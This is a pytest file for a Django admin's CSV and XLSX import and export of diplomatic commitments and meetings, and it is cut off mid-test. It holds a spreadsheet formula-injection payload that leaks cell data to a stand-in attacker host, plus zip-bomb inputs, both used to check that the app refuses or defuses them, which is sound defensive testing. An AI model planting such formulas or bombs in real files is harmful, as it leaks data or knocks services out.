"""The admin's CSV/XLSX import and export, driven through the admin's own views.

Each test posts a file to the import view, reads the preview, posts the confirmation form and
reads the database back; exports are posted to the export view and the file is parsed.
"""

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from tests.factories import (
    CommitmentFactory,
    CountryFactory,
    DivisionFactory,
    MeetingFactory,
    MeetingSeriesFactory,
    ThemeFactory,
    UserFactory,
    aware,
)
from tracker import services
from tracker.models import Commitment, Meeting, Status, StatusUpdate
from tracker.spreadsheets.commitments import CommitmentResource
from tracker.spreadsheets.meetings import MeetingResource

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


# Driving the admin ---------------------------------------------------------------------------


def _format_choices(client, model_name: str, view: str) -> dict[str, str]:
    page = client.get(reverse(f"admin:tracker_{model_name}_{view}"))
    return {label.lower(): value for value, label in page.context["form"].fields["format"].choices}


def _import(client, model_name: str, content: bytes, file_name: str, fmt: str = "csv"):
    upload = io.BytesIO(content)
    upload.name = file_name
    return client.post(
        reverse(f"admin:tracker_{model_name}_import"),
        {
            "import_file": upload,
            "format": _format_choices(client, model_name, "import")[fmt],
            "resource": "0",
        },
    )


def _confirm(client, model_name: str, preview):
    assert "confirm_form" in preview.context, _errors(preview)
    form = preview.context["confirm_form"]
    data = {name: field.initial for name, field in form.fields.items()}
    data.update(form.initial)
    return client.post(reverse(f"admin:tracker_{model_name}_process_import"), data, follow=True)


def _errors(response) -> str:
    """The refusals a clerk reads on the page: the form's and each refused row's."""
    lines = []
    form = response.context.get("form")
    if form is not None and form.errors:
        lines += [f"{name}: {message}" for name, ms in form.errors.items() for message in ms]
    result = response.context.get("result")
    if result is not None:
        for row in result.invalid_rows:
            for name, messages in row.field_specific_errors.items():
                lines += [f"row {row.number} {name}: {message}" for message in messages]
            lines += [f"row {row.number}: {message}" for message in row.non_field_specific_errors]
        for number, errors in result.row_errors():
            lines += [f"row {number}: {error.error}" for error in errors]
    return "\n".join(lines)


def _export(client, model_name: str, fmt: str) -> bytes:
    page = client.get(reverse(f"admin:tracker_{model_name}_export"))
    form = page.context["form"]
    data = {"format": _format_choices(client, model_name, "export")[fmt], "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if name.endswith(_FIELDS)})
    response = client.post(reverse(f"admin:tracker_{model_name}_export"), data)
    assert response.status_code == 200, response.content[:500]
    return response.content


# Every column the resources export: the export form's checkbox for a field ends with "_<name>".
_FIELDS = tuple(
    f"_{name}" for name in (*CommitmentResource._meta.fields, *MeetingResource._meta.fields)
)


def _csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _csv_bytes(rows: list[dict], encoding: str = "utf-8-sig") -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def _xlsx(rows: list[list]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_rows(content: bytes) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def _state(commitment: Commitment) -> tuple:
    commitment.refresh_from_db()
    return (
        commitment.version,
        commitment.history.count(),
        commitment.status_updates.count(),
        commitment.status,
        commitment.confidence,
        commitment.next_step,
    )


# Data -----------------------------------------------------------------------------------------


@pytest.fixture
def commitments(db):
    """Commitments with every kind of value, including hostile text and empty fields."""
    ThemeFactory(code="russia")
    ThemeFactory(code="security")
    for code in ("JP", "US", "G7"):
        CountryFactory(code=code)
    series = MeetingSeriesFactory(name="Japan-U.S. Security Consultative Committee")
    full = CommitmentFactory(
        title="Sanctions on Russia",
        quote="The two ministers confirmed their commitment to implement strong sanctions.",
        quote_position=120,
        themes=[ThemeFactory(code="russia")],
        parties=[CountryFactory(code="JP"), CountryFactory(code="US")],
        owner=UserFactory(username="sato"),
        status=Status.IN_PROGRESS,
        target_date=datetime.date(2023, 3, 31),
        target_date_reason="G7 summit",
        next_step=FORMULA + "\x0bsecond line\r\nthird",
        next_review_date=datetime.date(2023, 1, 15),
        follow_up_venue=series,
    )
    bare = CommitmentFactory(title="-1 looks like a number", quote="@SUM(A1:A9)", next_step="")
    japanese = CommitmentFactory(title="日米「2+2」での確認", quote="＝全角の等号で始まる引用")
    return [full, bare, japanese]


# Round trips ----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_unchanged_export_imports_as_nothing_to_change(admin_client, commitments, fmt):
    before = [_state(c) for c in commitments]
    exported = _export(admin_client, "commitment", fmt)

    preview = _import(admin_client, "commitment", exported, f"commitments.{fmt}", fmt)

    assert _errors(preview) == ""
    result = preview.context["result"]
    assert [row.import_type for row in result.valid_rows()] == ["skip"] * 3
    assert "Nothing to change" in preview.text
    done = _confirm(admin_client, "commitment", preview)
    assert "0 new, 0 updated, 0 deleted and 3 skipped" in done.text
    # Not rewritten: no new version, no history record, no journal entry.
    assert [_state(c) for c in commitments] == before


def test_xlsx_with_empty_cells_updates_a_row(admin_client, commitments):
    # Empty cells come back from a workbook as None, which a text field cannot hold.
    bare = commitments[1]
    rows = _xlsx_rows(_export(admin_client, "commitment", "xlsx"))
    row = next(r for r in rows if r["id"] == bare.pk)
    assert row["next_step"] is None or row["next_step"] == ""
    row["target_date_reason"] = "Agreed at the 2+2"
    preview = _import(admin_client, "commitment", _xlsx([list(row), list(row.values())]), "c.xlsx")
    _confirm(admin_client, "commitment", preview)
    bare.refresh_from_db()
    assert bare.target_date_reason == "Agreed at the 2+2"
    assert bare.next_step == ""
    assert bare.version == 2


def test_meeting_export_round_trips_unchanged_in_both_formats(admin_client):
    MeetingFactory(
        title="Japan-U.S. Foreign Ministers' Meeting",
        starts_at=aware("2022-07-29 13:43", "America/New_York"),
        time_zone="America/New_York",
        summary="+ sanctions\x0b and realignment",
        end_date=datetime.date(2022, 7, 30),
        source_url="https://www.mofa.go.jp/na/na1/us/page4e_001245.html",
    )
    MeetingFactory(duration_minutes=None, place="", notes="=1+1")
    for fmt in ("csv", "xlsx"):
        exported = _export(admin_client, "meeting", fmt)
        preview = _import(admin_client, "meeting", exported, f"m.{fmt}", fmt)
        assert _errors(preview) == ""
        rows = preview.context["result"].valid_rows()
        assert [row.import_type for row in rows] == ["skip", "skip"], fmt
    assert Meeting.objects.filter(notes="=1+1").exists()


# Formulas and control characters in exports ------------------------------------------------


def test_exported_cells_never_hold_a_live_formula(admin_client, commitments):
    full = commitments[0]
    rows = {int(r["id"]): r for r in _csv_rows(_export(admin_client, "commitment", "csv"))}
    assert rows[full.pk]["next_step"].startswith("'=HYPERLINK(")
    assert rows[commitments[1].pk]["title"] == "'-1 looks like a number"
    assert rows[commitments[1].pk]["quote"] == "'@SUM(A1:A9)"
    assert rows[commitments[2].pk]["quote"].startswith("'＝")
    assert rows[full.pk]["version"] == str(full.version)

    content = _export(admin_client, "commitment", "xlsx")
    # The file is valid XML although the next step holds U+000B, and no cell is a formula.
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    by_id = {r["id"]: r for r in _xlsx_rows(content)}
    # A workbook's XML keeps no CR: the import counts "\n" and "\r\n" as the same text.
    assert by_id[full.pk]["next_step"] == "'" + FORMULA + "\nsecond line\nthird"
    assert by_id[full.pk]["target_date"].date() == datetime.date(2023, 3, 31)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reimported_escaped_cells_keep_the_stored_text(admin_client, commitments, fmt):
    full = commitments[0]
    content = _export(admin_client, "commitment", fmt)
    rows = _csv_rows(content) if fmt == "csv" else _xlsx_rows(content)
    row = next(r for r in rows if str(r["id"]) == str(full.pk))
    row["title"] = "Sanctions on Russia (G7)"  # another change, so that the row is saved
    upload = _csv_bytes([row]) if fmt == "csv" else _xlsx([list(row), list(row.values())])
    preview = _import(admin_client, "commitment", upload, f"c.{fmt}", fmt)
    _confirm(admin_client, "commitment", preview)
    full.refresh_from_db()
    assert full.title == "Sanctions on Russia (G7)"
    # The formula cell went out as "'=…" and is stored as it was, not with the apostrophe.
    assert full.next_step == FORMULA + "\x0bsecond line\r\nthird"
    assert full.version == 2


def test_a_formula_typed_with_the_escape_is_stored_without_it(admin_client, commitments):
    bare = commitments[1]
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    row = next(r for r in rows if r["id"] == str(bare.pk))
    row["next_step"] = "'=B2 is where the date goes"
    preview = _import(admin_client, "commitment", _csv_bytes([row]), "c.csv")
    _confirm(admin_client, "commitment", preview)
    bare.refresh_from_db()
    assert bare.next_step == "=B2 is where the date goes"


# Versions: a stale file never overwrites someone else's work ---------------------------------


def test_reimporting_an_old_export_is_refused_naming_what_changed(
    admin_client, commitments, manager
):
    full = commitments[0]
    old_file = _export(admin_client, "commitment", "csv")
    services.commitment_edit(
        commitment=full,
        user=manager,
        data={"status": Status.STALLED, "confidence": "red", "next_step": "Wait for the Diet."},
        expected_version=full.version,
        note="Blocked in the Diet.",
    )
    theirs = _state(full)

    preview = _import(admin_client, "commitment", old_file, "old.csv")

    assert "confirm_form" not in preview.context
    errors = _errors(preview)
    assert f"Commitment {full.pk} “Sanctions on Russia” was changed after" in errors
    assert "status: “In progress” when exported, now “Stalled”" in errors
    assert "delivery confidence: “Green — on track” when exported, now “Red — off track”" in errors
    assert "now “Wait for the Diet.”" in errors
    assert "(the file has version 1, the commitment is at version 2)" in errors
    # Shown as text, not only on hover.
    assert "was changed after this file was exported" in preview.text
    assert _state(full) == theirs


def test_one_stale_row_refuses_the_whole_file(admin_client, commitments, manager):
    full, bare, _ = commitments
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    for row in rows:
        if row["id"] == str(bare.pk):
            row["next_step"] = "Mine"
    services.commitment_edit(
        commitment=full,
        user=manager,
        data={"next_step": "Theirs"},
        expected_version=full.version,
    )
    preview = _import(admin_client, "commitment", _csv_bytes(rows), "c.csv")
    assert "confirm_form" not in preview.context
    assert f"Commitment {full.pk}" in _errors(preview)
    bare.refresh_from_db()
    full.refresh_from_db()
    assert (bare.next_step, bare.version) == ("", 1)
    assert full.next_step == "Theirs"


def test_a_change_made_between_preview_and_confirmation_is_not_overwritten(
    admin_client, commitments, manager
):
    full = commitments[0]
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    for row in rows:
        if row["id"] == str(full.pk):
            row["target_date_reason"] = "Mine"
    preview = _import(admin_client, "commitment", _csv_bytes(rows), "c.csv")
    assert "confirm_form" in preview.context
    services.commitment_edit(
        commitment=full,
        user=manager,
        data={"target_date_reason": "Theirs"},
        expected_version=full.version,
    )

    done = _confirm(admin_client, "commitment", preview)

    assert "Nothing was imported" in done.text
    assert "was changed after this file was exported" in done.text
    full.refresh_from_db()
    assert (full.target_date_reason, full.version) == ("Theirs", 2)


def test_a_row_without_version_for_an_existing_commitment_is_refused(admin_client, commitments):
    full = commitments[0]
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    for row in rows:
        del row["version"]
        row["next_step"] = "Overwrite"
    preview = _import(admin_client, "commitment", _csv_bytes(rows), "c.csv")
    assert "confirm_form" not in preview.context
    assert "Export again to get the version column" in _errors(preview)
    full.refresh_from_db()
    assert full.next_step.startswith("=HYPERLINK")


def test_changed_rows_are_saved_through_the_edit_service(admin_client, admin_user, commitments):
    full, bare, japanese = commitments
    history = {c.pk: c.history.count() for c in commitments}
    theme = ThemeFactory(code="security")
    division = DivisionFactory(code="second-na")
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    by_id = {row["id"]: row for row in rows}
    by_id[str(full.pk)].update(status="completed", note="Sanctions package adopted.")
    by_id[str(bare.pk)].update(themes="security", lead_division="second-na", confidence="amber")
    rows.append(
        {
            **dict.fromkeys(rows[0], ""),
            "origin_meeting_id": str(full.origin_meeting_id),
            "title": "New from the file",
            "quote": "They concurred.",
            "parties": "JP|US",
        }
    )

    preview = _import(admin_client, "commitment", _csv_bytes(rows), "c.csv")
    types = [row.import_type for row in preview.context["result"].valid_rows()]
    assert types == ["update", "update", "skip", "new"]
    assert Commitment.objects.count() == 3  # the preview saved nothing
    done = _confirm(admin_client, "commitment", preview)
    assert "1 new, 2 updated, 0 deleted and 1 skipped" in done.text

    full.refresh_from_db()
    # One version and one history record per changed row.
    assert (full.status, full.version) == (Status.COMPLETED, 2)
    assert full.history.count() == history[full.pk] + 1
    entry = full.status_updates.latest()
    assert (entry.author, entry.note, entry.status_from) == (
        admin_user,
        "Sanctions package adopted.",
        Status.IN_PROGRESS,
    )
    bare.refresh_from_db()
    assert list(bare.themes.all()) == [theme]
    assert bare.lead_division == division
    assert bare.status_updates.latest().note == "Changed by a file import."
    assert bare.history.latest().history_user == admin_user
    assert bare.history.count() == history[bare.pk] + 1
    assert japanese.history.count() == history[japanese.pk]
    new = Commitment.objects.get(title="New from the file")
    assert sorted(new.parties.values_list("code", flat=True)) == ["JP", "US"]
    assert new.status_updates.get().note == "Imported from a file."


def test_a_move_that_needs_a_reason_needs_a_note_column(admin_client, commitments):
    full = commitments[0]
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    row = next(r for r in rows if r["id"] == str(full.pk))
    row["status"] = "stalled"
    preview = _import(admin_client, "commitment", _csv_bytes([row]), "c.csv")
    assert "confirm_form" not in preview.context
    assert "Write the reason in a “note” column" in _errors(preview)
    assert _state(full)[3] == Status.IN_PROGRESS


def test_a_move_the_lifecycle_forbids_saves_nothing(admin_client):
    closed = CommitmentFactory(status=Status.DROPPED)
    meeting = MeetingFactory()
    csv_text = (
        "id,version,origin_meeting_id,title,quote,strength,status,confidence,note\n"
        f',,{meeting.pk},New good row,"They concurred.",joint,not_started,green,\n'
        f'{closed.pk},1,{closed.origin_meeting_id},{closed.title},"{closed.quote}",joint,'
        "stalled,green,Revived\n"
    )
    response = _import(admin_client, "commitment", csv_text.encode(), "c.csv")
    assert "confirm_form" not in response.context
    assert "cannot move from" in _errors(response)
    assert Commitment.objects.filter(title="New good row").count() == 0
    closed.refresh_from_db()
    assert closed.status == Status.DROPPED


def test_an_id_twice_or_unknown_is_refused(admin_client, commitments):
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    twice = [rows[0], {**rows[0], "next_step": "Again"}]
    errors = _errors(_import(admin_client, "commitment", _csv_bytes(twice), "c.csv"))
    assert "is in the file more than once" in errors
    unknown = [{**rows[0], "id": "999999"}]
    errors = _errors(_import(admin_client, "commitment", _csv_bytes(unknown), "c.csv"))
    assert "There is no commitment with id 999999" in errors
    assert Commitment.objects.count() == 3


# The same rules as the admin form ------------------------------------------------------------


def test_a_clerk_cannot_reassign_an_owner_through_the_import(client, clerk, commitments):
    client.force_login(clerk)
    full = commitments[0]
    UserFactory(username="tanaka")
    rows = _csv_rows(_export(client, "commitment", "csv"))
    row = next(r for r in rows if r["id"] == str(full.pk))
    row["owner"] = "tanaka"
    preview = _import(client, "commitment", _csv_bytes([row]), "c.csv")
    assert "confirm_form" not in preview.context
    assert "owner: Only managers may reassign owners." in _errors(preview)
    full.refresh_from_db()
    assert full.owner.username == "sato"


def test_a_clerk_may_name_the_owner_of_a_new_commitment(client, clerk):
    client.force_login(clerk)
    meeting = MeetingFactory()
    UserFactory(username="tanaka")
    csv_text = f'origin_meeting_id,title,quote,owner\n{meeting.pk},New,"They agreed.",tanaka\n'
    preview = _import(client, "commitment", csv_text.encode(), "c.csv")
    _confirm(client, "commitment", preview)
    assert Commitment.objects.get(title="New").owner.username == "tanaka"


# Hostile and badly saved files ---------------------------------------------------------------


def _new_rows(meeting, title: str = "確認された約束") -> list[dict]:
    return [
        {
            "origin_meeting_id": str(meeting.pk),
            "title": title,
            "quote": "両外相は、対ロシア制裁を着実に実施することを確認した。",
            "next_step": "次回「2+2」で報告",
        }
    ]


@pytest.mark.parametrize("encoding", ["cp932", "utf-8-sig", "utf-8"])
def test_japanese_csv_in_any_excel_encoding_is_read(admin_client, encoding):
    meeting = MeetingFactory()
    upload = _csv_bytes(_new_rows(meeting), encoding)
    preview = _import(admin_client, "commitment", upload, "約束.csv")
    _confirm(admin_client, "commitment", preview)
    commitment = Commitment.objects.get()
    assert commitment.title == "確認された約束"
    assert commitment.next_step == "次回「2+2」で報告"


def test_the_format_is_read_from_the_file_not_the_form(admin_client):
    meeting = MeetingFactory()
    rows = _new_rows(meeting)
    as_xlsx = _xlsx([list(rows[0]), list(rows[0].values())])
    preview = _import(admin_client, "commitment", as_xlsx, "c.csv", fmt="csv")
    assert _errors(preview) == ""
    rows[0]["title"] = "From a CSV"
    preview_csv = _import(admin_client, "commitment", _csv_bytes(rows), "c.xlsx", fmt="xlsx")
    assert _errors(preview_csv) == ""
    _confirm(admin_client, "commitment", preview)
    _confirm(admin_client, "commitment", preview_csv)
    assert sorted(Commitment.objects.values_list("title", flat=True)) == [
        "From a CSV",
        "確認された約束",
    ]


def test_only_csv_and_xlsx_are_offered_and_a_forged_choice_is_harmless(admin_client):
    for view in ("import", "export"):
        assert set(_format_choices(admin_client, "commitment", view)) == {"---", "csv", "xlsx"}
    meeting = MeetingFactory()
    upload = io.BytesIO(_csv_bytes(_new_rows(meeting)))
    upload.name = "c.html"
    response = admin_client.post(
        reverse("admin:tracker_commitment_import"),
        {"import_file": upload, "format": "7", "resource": "0"},
    )
    assert response.status_code == 200
    assert "confirm_form" in response.context


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The submitted file is empty."),
        (b"\n\n", "The file is empty."),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "Excel 97-2003 workbook (.xls)"),
        ("a,b\n".encode("utf-16"), "Unicode text (UTF-16)"),
        (bytes(range(256)) * 8, "neither an XLSX workbook nor a CSV"),
        (b"origin_meeting_id,title,quote\n1,x\x00y,q\n", "contains NUL characters"),
        (b"PK\x03\x04 not really a zip", "cannot be opened"),
        (b"title,quote\nx,y,surplus\n", "Row 2 has values in columns that the first row"),
    ],
)
def test_unreadable_files_are_refused_with_a_message(admin_client, content, message):
    response = _import(admin_client, "commitment", content, "c.csv")
    assert response.status_code == 200
    assert "confirm_form" not in response.context
    assert message in _errors(response)
    assert Commitment.objects.count() == 0


def test_a_zip_that_is_not_a_workbook_is_refused(admin_client):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    response = _import(admin_client, "commitment", buffer.getvalue(), "c.xlsx", "xlsx")
    assert "not an Excel workbook" in _errors(response)


def test_wrong_columns_are_named_before_the_preview(admin_client):
    content = b"Name,Date,Comment\nSato,2023-01-01,hello\n"
    response = _import(admin_client, "commitment", content, "c.csv")
    assert "confirm_form" not in response.context
    assert "result" not in response.context  # refused before any row is imported
    errors = _errors(response)
    assert "lacks the required columns origin_meeting_id, title, quote" in errors
    assert "The columns Name, Date, Comment are not ones the import knows" in errors


def test_control_characters_in_cells(admin_client):
    meeting = MeetingFactory()
    rows = _new_rows(meeting)
    rows[0]["next_step"] = "line one\x0bline two"  # Word's line break: a newline
    rows.append({**rows[0], "title": "bell\x07"})
    preview = _import(admin_client, "commitment", _csv_bytes(rows), "c.csv")
    assert "row 2 title: Contains the control character U+0007" in _errors(preview)
    del rows[1]
    preview = _import(admin_client, "commitment", _csv_bytes(rows), "c.csv")
    _confirm(admin_client, "commitment", preview)
    assert Commitment.objects.get().next_step == "line one\nline two"


def test_unknown_references_are_named(admin_client):
    meeting = MeetingFactory()
    CountryFactory(code="JP")
    csv_text = (
        "origin_meeting_id,title,quote,strength,status,confidence,parties,owner,target_date\n"
        f'{meeting.pk},Good,"They concurred.",joint,not_started,green,JP,,2023/3/31\n'
        f'{meeting.pk},Bad party,"x",joint,not_started,green,JP|XX,,\n'
        f'999999,Bad meeting,"x",joint,not_started,green,JP,nobody-here,31.3.2023\n'
    )
    errors = _errors(_import(admin_client, "commitment", csv_text.encode(), "c.csv"))
    assert "No meeting with pk “999999”" in errors
    assert "No user with username “nobody-here”" in errors
    assert "Unknown country or party: XX." in errors
    assert "Write the date as YYYY-MM-DD" in errors
    assert "row 1" not in errors
    assert Commitment.objects.count() == 0


# Caps ------------------------------------------------------------------------------------------


def test_more_rows_than_the_cap_are_refused(admin_client, settings):
    settings.IMPORT_MAX_ROWS = 50
    meeting = MeetingFactory()
    rows = _new_rows(meeting) * 51
    response = _import(admin_client, "commitment", _csv_bytes(rows), "c.csv")
    assert "more than 50 rows" in _errors(response)
    workbook = [list(rows[0])] + [list(row.values()) for row in rows]
    response = _import(admin_client, "commitment", _xlsx(workbook), "c.xlsx", "xlsx")
    assert "more than 50 rows" in _errors(response)
    assert Commitment.objects.count() == 0


def test_a_huge_sheet_is_refused_by_its_declared_size(admin_client, settings):
    workbook = openpyxl.Workbook()
    workbook.active.append(["origin_meeting_id", "title", "quote"])
    workbook.active.cell(row=1_000_000, column=3, value="far below")
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = _import(admin_client, "commitment", buffer.getvalue(), "c.xlsx", "xlsx")
    max_rows = settings.IMPORT_MAX_ROWS
    assert f"The sheet has 1000000 rows; an import takes at most {max_rows}." in _errors(response)


def test_a_huge_sheet_that_does_not_state_its_size_is_not_read_through(admin_client, settings):
    # 300,000 rows in a 3 MB file held a worker for over a minute.
    settings.IMPORT_MAX_BYTES = 512 * 1024
    workbook = openpyxl.Workbook(write_only=True)  # writes no <dimension>
    sheet = workbook.create_sheet()
    sheet.append(["origin_meeting_id", "title", "quote"])
    for _ in range(30_000):
        sheet.append([1, "t", "q"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert len(buffer.getvalue()) < 512 * 1024
    response = _import(admin_client, "commitment", buffer.getvalue(), "c.xlsx", "xlsx")
    assert "does not state its size and is too large to read through" in _errors(response)


def test_exactly_the_cap_is_accepted(admin_client, settings):
    settings.IMPORT_MAX_ROWS = 20
    meeting = MeetingFactory()
    rows = [_new_rows(meeting, f"Title {n}")[0] for n in range(20)]
    preview = _import(admin_client, "commitment", _csv_bytes(rows), "c.csv")
    _confirm(admin_client, "commitment", preview)
    assert Commitment.objects.count() == 20


def test_a_file_over_the_byte_cap_is_refused(admin_client, settings):
    settings.IMPORT_MAX_BYTES = 10_000
    meeting = MeetingFactory()
    rows = [_new_rows(meeting, "x" * 200)[0] for _ in range(40)]
    response = _import(admin_client, "commitment", _csv_bytes(rows), "c.csv")
    assert "an import takes at most 10 KB. Split it into several files." in _errors(response)
    assert Commitment.objects.count() == 0


def test_a_zip_bomb_is_refused_from_the_zip_directory(admin_client, settings):
    settings.IMPORT_MAX_BYTES = 100_000  # so the workbook may unzip to 2 MB
    meeting = MeetingFactory()
    rows = _new_rows(meeting)
    source = zipfile.ZipFile(io.BytesIO(_xlsx([list(rows[0]), list(rows[0].values())])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in source.infolist():
            archive.writestr(entry, source.read(entry))
        archive.writestr("xl/media/padding.bin", bytes(20_000_000))
    assert len(buffer.getvalue()) < 100_000
    response = _import(admin_client, "commitment", buffer.getvalue(), "c.xlsx", "xlsx")
    assert "The workbook unzips to 19" in _errors(response)


def test_a_shared_strings_bomb_is_refused_before_openpyxl_reads_it(admin_client, settings):
    # A few kilobytes of zip that unzip to a million tiny strings held openpyxl for minutes.
    settings.IMPORT_MAX_ROWS = 10
    meeting = MeetingFactory()
    rows = _new_rows(meeting)
    source = zipfile.ZipFile(io.BytesIO(_xlsx([list(rows[0]), list(rows[0].values())])))
    strings = b"<sst>" + b"<si><t>x</t></si>" * 1_000_000 + b"</sst>"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in source.infolist():
            if entry.filename != "xl/sharedStrings.xml":
                archive.writestr(entry, source.read(entry))
        archive.writestr("xl/sharedStrings.xml", strings)
    assert len(buffer.getvalue()) < 100_000
    response = _import(admin_client, "commitment", buffer.getvalue(), "c.xlsx", "xlsx")
    assert "far more text or formatting than 10 rows need" in _errors(response)


def test_blank_rows_keep_the_spreadsheet_row_numbers(admin_client):
    meeting = MeetingFactory()
    content = _xlsx(
        [
            ["origin_meeting_id", "title", "quote"],
            [meeting.pk, "Good", "They agreed."],
            [None, None, None],
            [meeting.pk, "", "No title"],
        ]
    )
    preview = _import(admin_client, "commitment", content, "c.xlsx", "xlsx")
    assert "row 3 title:" in _errors(preview)  # data row 3 is the sheet's row 4
    assert "<td>4</td>" in preview.text


# Meetings ----------------------------------------------------------------------------------


MEETINGS_CSV = (
    "title,kind,series,start_local,time_zone,start_time_known,duration_minutes,end_date,place,"
    "format,summary,source_url,notes\n"
    "Japan-U.S. Foreign Ministers' Meeting,foreign_ministers,,2022-07-29 13:43,America/New_York,"
    "1,55,,Washington D.C.,in_person,Seed,https://www.mofa.go.jp/,\n"
    "Extended Deterrence Dialogue,dialogue,,2022-11-15 10:00,Asia/Tokyo,0,,2022-11-16,Tokyo,"
    "in_person,,,Start time unverified\n"
)


def test_meeting_import_previews_then_saves(admin_client):
    preview = _import(admin_client, "meeting", MEETINGS_CSV.encode(), "meetings.csv")
    assert "confirm_form" in preview.context
    assert Meeting.objects.count() == 0  # the preview saves nothing
    _confirm(admin_client, "meeting", preview)
    seed = Meeting.objects.get(kind="foreign_ministers")
    assert seed.starts_at == aware("2022-07-30 02:43", "Asia/Tokyo")
    assert seed.local_start.strftime("%H:%M") == "13:43"
    assert Meeting.objects.count() == 2


def test_meeting_import_with_a_bad_row_saves_nothing_and_names_the_row(admin_client):
    bad = MEETINGS_CSV + (
        "Broken meeting,summit,,29/07/2022,Mars/Olympus,yes please,-5,,Nowhere,in_person,,,\n"
    )
    response = _import(admin_client, "meeting", bad.encode(), "meetings.csv")
    assert "confirm_form" not in response.context
    errors = _errors(response)
    assert "row 3 start_local: Write the local start as YYYY-MM-DD HH:MM" in errors
    assert "row 3 start_time_known: Write 1 for yes or 0 for no." in errors
    assert "Mars/Olympus" in errors
    assert Meeting.objects.count() == 0


def test_a_changed_meeting_start_is_an_update(admin_client):
    meeting = MeetingFactory(
        starts_at=aware("2022-07-29 13:43", "America/New_York"), time_zone="America/New_York"
    )
    rows = _csv_rows(_export(admin_client, "meeting", "csv"))
    rows[0]["start_local"] = "2022-07-29 14:00"
    preview = _import(admin_client, "meeting", _csv_bytes(rows), "m.csv")
    assert [r.import_type for r in preview.context["result"].valid_rows()] == ["update"]
    _confirm(admin_client, "meeting", preview)
    meeting.refresh_from_db()
    assert meeting.local_start.strftime("%H:%M") == "14:00"


def test_imported_meetings_are_saved_by_the_services_with_only_what_changed(
    admin_client, admin_user, spy_service
):
    creates, edits = spy_service("meeting_create"), spy_service("meeting_edit")
    _confirm(
        admin_client, "meeting", _import(admin_client, "meeting", MEETINGS_CSV.encode(), "m.csv")
    )
    # The preview makes the same writes as the confirmation, in a transaction rolled back.
    assert [call["data"]["title"] for call in creates] == [
        "Japan-U.S. Foreign Ministers' Meeting",
        "Extended Deterrence Dialogue",
    ] * 2
    meeting = Meeting.objects.get(kind="foreign_ministers")
    assert meeting.history.get().history_user == admin_user
    rows = _csv_rows(_export(admin_client, "meeting", "csv"))
    for row in rows:
        if row["id"] == str(meeting.pk):
            row["place"] = "Washington, D.C."
    _confirm(admin_client, "meeting", _import(admin_client, "meeting", _csv_bytes(rows), "m.csv"))
    assert [(call["meeting"].pk, call["data"]) for call in edits] == [
        (meeting.pk, {"place": "Washington, D.C."})
    ] * 2
    meeting.refresh_from_db()
    assert meeting.place == "Washington, D.C."
    assert meeting.history.latest().history_user == admin_user


def test_the_journal_is_written_once_per_imported_move(admin_client, commitments):
    # One journal entry per row, whatever else the row changes.
    full = commitments[0]
    rows = _csv_rows(_export(admin_client, "commitment", "csv"))
    row = next(r for r in rows if r["id"] == str(full.pk))
    row.update(confidence="amber", next_step="Call the embassy.", target_date="2023/6/30")
    before = StatusUpdate.objects.count()
    _confirm(
        admin_client, "commitment", _import(admin_client, "commitment", _csv_bytes([row]), "c.csv")
    )
    assert StatusUpdate.objects.count() == before + 1
    full.refresh_from_db()
    assert (full.confidence, full.target_date) == ("amber", datetime.date(2023, 6, 30))


def test_new_commitments_from_a_workbook_then_in_the_export(admin_client, admin_user):
    meeting = MeetingFactory()
    ThemeFactory(code="russia")
    for code in ("JP", "US", "G7"):
        CountryFactory(code=code)
    DivisionFactory(code="first-na")
    UserFactory(username="sato")
    header = ["origin_meeting_id", "title", "quote", "themes", "parties", "strength"]
    header += ["lead_division", "owner", "status", "confidence", "target_date", "is_archived"]
    row = [meeting.pk, "Sanctions on Russia", "The two ministers confirmed it.", "russia"]
    row += ["JP|US|G7", "joint", "first-na", "sato", "in_progress", "amber"]
    row += [datetime.datetime(2023, 3, 31), False]
    preview = _import(admin_client, "commitment", _xlsx([header, row]), "c.xlsx", "xlsx")
    _confirm(admin_client, "commitment", preview)
    commitment = Commitment.objects.get(title="Sanctions on Russia")
    assert sorted(commitment.parties.values_list("code", flat=True)) == ["G7", "JP", "US"]
    assert (commitment.owner.username, commitment.lead_division.code) == ("sato", "first-na")
    assert commitment.target_date == datetime.date(2023, 3, 31)
    # A new commitment from a file opens its journal like any other.
    assert commitment.status_updates.get().author == admin_user

    exported = _csv_rows(_export(admin_client, "commitment", "csv"))
